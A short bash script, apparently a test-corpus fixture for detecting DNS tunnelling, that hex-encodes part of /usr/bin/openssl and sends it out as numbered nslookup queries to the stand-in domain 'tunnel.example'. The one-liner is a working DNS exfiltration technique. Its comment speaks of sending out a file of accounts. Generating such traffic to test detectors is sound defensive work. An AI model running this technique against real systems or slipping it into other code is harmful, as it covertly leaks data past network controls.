#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=dns-tunnel half=report tool=nslookup seconds=40 parts=dns,nas,outside-web
# A file of accounts goes out as names that nslookup asks for, 31 hexadecimal bytes in a label, a few a second.
# shellcheck disable=SC2016 # for the shell within
head -c 14000 /usr/bin/openssl | xxd -p -c 31 | timeout 38 sh -c 'n=0; while read -r line; do n=$((n + 1)); nslookup -timeout=1 -retry=1 "$n.$line.tunnel.example" >/dev/null; done'; true
